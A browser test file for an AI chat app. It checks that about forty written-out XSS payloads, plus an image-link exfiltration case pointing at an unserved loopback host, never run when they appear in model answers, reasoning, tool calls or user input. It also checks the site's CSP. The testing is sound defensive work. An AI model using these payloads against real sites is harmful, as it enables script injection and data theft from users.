"""Known XSS tricks, in a model's answer, its reasoning, its tool calls and in what a person
types, never run and leave nothing dangerous in the page. The page runs with its CSP
switched off here (bypass_csp), so the renderer and the sanitiser are tested on their own:
the CSP is a second wall, checked apart below."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import ASSISTANT, Site, ask, log_in

pytestmark = pytest.mark.browser

# A host on loopback that no one serves: a request to it would be a leak.
REMOTE = "127.0.0.2:9"
RUN = "window.xssRan=1;alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://{REMOTE}/raw-img.png">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>svg link</text></a></svg>',
    '<iframe srcdoc="<script>parent.xssRan=1</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<button formaction="javascript:{RUN}">go</button>',
    '<div style="background:url(javascript:alert(1));width:expression(alert(1))">styled</div>',
    f'<a href="javascript:{RUN}">html link</a>',
    f'<a href="&#x6A;avascript:{RUN}">entity html link</a>',
    f'<details open ontoggle="{RUN}">details</details>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "<math><mtext><table><mglyph><style>"
    f"<img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math><mi xlink:href="javascript:{RUN}">m</mi></math>',
    f"[md link](javascript:{RUN})",
    "[upper case](JaVaScRiPt:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[tab inside](java&#x09;script:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vbscript](vbscript:msgbox(1))",
    '[title](https://example.org "a\\" onmouseover=\\"alert(1)")',
    f"![md image](javascript:{RUN})",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    f"![leak](http://{REMOTE}/leak.png?secret=1)",
    "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref link][evil]\n\n[evil]: javascript:alert(1)",
    f'```" onmouseover="{RUN}\ncode with a hostile language\n```',
    "$\\href{javascript:alert(1)}{math link}$",
    "$$\\url{javascript:alert(1)}$$",
    f"`<img src=x onerror={RUN}>` in a code span",
    "END-OF-PAYLOADS",
]
TEXT = "\n\n".join(PAYLOADS) + "\n"

# Everything dangerous that could be left in the messages, as a list of findings. In what
# is rendered from text, no element of these kinds (Copy code buttons aside); anywhere in
# the list (the tools under each message too), no handler, style or dangerous URL.
FINDINGS = """() => {
  const found = [];
  const rendered = '.message-content, .reasoning-content, .tool-calls';
  const forbidden = new Set(['script', 'iframe', 'object', 'embed', 'form', 'style', 'svg',
    'base', 'meta', 'link', 'img', 'input', 'textarea', 'noscript', 'frame', 'video', 'audio']);
  for (const el of document.querySelectorAll('#messages *')) {
    const inRendered = el.closest(rendered) !== null;
    if (inRendered && forbidden.has(el.localName)) found.push(`<${el.localName}>`);
    if (inRendered && el.localName === 'button' && !el.classList.contains('copy-code')) {
      found.push('<button>');
    }
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${el.localName}[${name}]`);
      if (['style', 'srcdoc', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)) {
        found.push(`${el.localName}[${name}]`);
      }
      if (name === 'href' && !/^(https?:|mailto:)/i.test(attr.value)) {
        found.push(`${el.localName}[href=${attr.value}]`);
      }
    }
  }
  return found;
}"""


@pytest.fixture
def guarded(open_page, site: Site):
    """A page without its CSP that records dialogs and every request that leaves the site."""
    page = open_page(bypass_csp=True)
    dialogs: list[str] = []
    outside: list[str] = []
    site_host = urlsplit(site.url).netloc

    def route(route):
        if urlsplit(route.request.url).netloc == site_host:
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.route("**/*", route)
    return page, dialogs, outside


def assert_harmless(page: Page, dialogs: list[str], outside: list[str]) -> None:
    page.wait_for_timeout(300)  # time for anything that would run (an onerror, say) to run
    assert dialogs == [], "a payload ran"
    assert page.evaluate("window.xssRan") is None, "a payload ran"
    assert page.evaluate(FINDINGS) == []
    assert outside == [], "the page fetched something from another host"


def test_hostile_answers_reasoning_and_tool_calls_never_run(guarded, site: Site, upstream):
    page, dialogs, outside = guarded
    calls = [
        {"name": f"<img src=x onerror={RUN}>", "arguments": f'{{"html": "<script>{RUN}</script>"}}'}
    ]
    upstream.plan(text=TEXT, reasoning_text=TEXT, tool_calls=calls)
    log_in(page, site)
    ask(page, "Say something dangerous")
    expect(page.locator(ASSISTANT)).to_have_attribute("data-status", "complete")
    answer = page.locator(f"{ASSISTANT} .message-content")
    expect(answer).to_contain_text("END-OF-PAYLOADS")
    page.locator(f"{ASSISTANT} details.reasoning summary").click()
    page.locator(f"{ASSISTANT} details.tool-call summary").click()

    # Shown as text, not dropped: the person sees what the model wrote.
    expect(answer).to_contain_text(f"<script>{RUN}</script>")
    expect(page.locator(f"{ASSISTANT} .reasoning-content")).to_contain_text("END-OF-PAYLOADS")
    expect(page.locator(f"{ASSISTANT} .tool-call-name")).to_have_text(f"<img src=x onerror={RUN}>")
    # The remote image is a link the person may open, not a request made for them.
    leak = answer.locator("a.image-link", has_text="leak")
    assert leak.get_attribute("href") == f"http://{REMOTE}/leak.png?secret=1"
    assert_harmless(page, dialogs, outside)

    page.reload()  # saved messages go through the same renderer
    expect(page.locator(f"{ASSISTANT} .message-content")).to_contain_text("END-OF-PAYLOADS")
    page.locator(f"{ASSISTANT} details.reasoning summary").click()
    assert_harmless(page, dialogs, outside)


def test_hostile_text_typed_by_a_person_never_runs(guarded, site: Site, upstream):
    page, dialogs, outside = guarded
    upstream.plan(tokens=2)
    log_in(page, site)
    ask(page, TEXT)
    expect(page.locator(ASSISTANT)).to_have_attribute("data-status", "complete")
    question = page.locator('.message[data-role="user"] .message-content')
    expect(question).to_contain_text("END-OF-PAYLOADS")
    assert_harmless(page, dialogs, outside)

    page.reload()
    expect(question).to_contain_text("END-OF-PAYLOADS")
    assert_harmless(page, dialogs, outside)


def test_the_csp_allows_no_inline_script_and_no_remote_images(page: Page, site: Site):
    response = page.goto(f"{site.url}/accounts/login/")
    policy = dict(
        directive.strip().split(" ", 1)
        for directive in response.headers["content-security-policy"].split(";")
    )
    assert policy["script-src"] == "'self'"
    assert policy["img-src"].split() == ["'self'", "data:"]
    assert policy["object-src"] == "'none'"
    assert policy["base-uri"] == "'none'"
